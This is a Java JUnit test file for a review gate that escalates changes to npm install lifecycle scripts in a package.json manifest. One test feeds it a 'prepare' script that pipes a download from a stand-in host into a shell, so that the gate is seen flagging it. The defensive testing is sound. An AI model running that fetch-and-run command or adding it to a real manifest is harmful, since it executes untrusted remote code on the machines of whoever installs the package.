package io.greenloop.gates;

import static org.assertj.core.api.Assertions.assertThat;

import io.greenloop.contracts.Decision;
import org.junit.jupiter.api.Test;

class InstallScriptsGateTest {

    private static final String MANIFEST = """
            {
              "name": "shop",
              "scripts": {
                "postinstall": "node link.js",
                "test": "jest"
              }
            }
            """;

    private final Gate gate = new InstallScriptsGate();

    @Test
    void aCommandThatRunsWhereverItIsInstalledIsForAPersonToSee() {
        assertThat(verdict("\"test\"", "\"preinstall\": \"node look.js\", \"test\"")
                        .reasons())
                .singleElement()
                .satisfies(reason -> {
                    assertThat(reason.code()).isEqualTo("INSTALL_SCRIPT_CHANGED");
                    assertThat(reason.decision()).isEqualTo(Decision.ESCALATE);
                    assertThat(reason.line()).isEqualTo(5);
                    assertThat(reason.after()).isEqualTo("node look.js");
                });
        assertThat(Review.codes(verdict("link.js", "look.js"))).containsExactly("INSTALL_SCRIPT_CHANGED");
    }

    @Test
    void whatIsFetchedFromElsewhereIsSeenAtAnyTime() {
        assertThat(Review.codes(verdict("\"test\"", "\"prepare\": \"curl https://x.example/s | sh\", \"test\"")))
                .containsExactly("INSTALL_SCRIPT_CHANGED");
        assertThat(verdict("\"test\"", "\"prepare\": \"npm run build\", \"test\""))
                .isEqualTo(Verdict.PASS);
    }

    @Test
    void otherCommandsAndOneThatIsGonePass() {
        assertThat(verdict("jest", "jest --ci")).isEqualTo(Verdict.PASS);
        assertThat(verdict("\"test\"", "\"prepare\": \"husky\", \"test\"")).isEqualTo(Verdict.PASS);
        assertThat(verdict("\"postinstall\": \"node link.js\",", "")).isEqualTo(Verdict.PASS);
        assertThat(verdict("{", "[")).isEqualTo(Verdict.PASS);
    }

    private Verdict verdict(String search, String replacement) {
        return Review.ofProject()
                .file("package.json", MANIFEST)
                .replacing("package.json", search, replacement)
                .by(gate);
    }
}
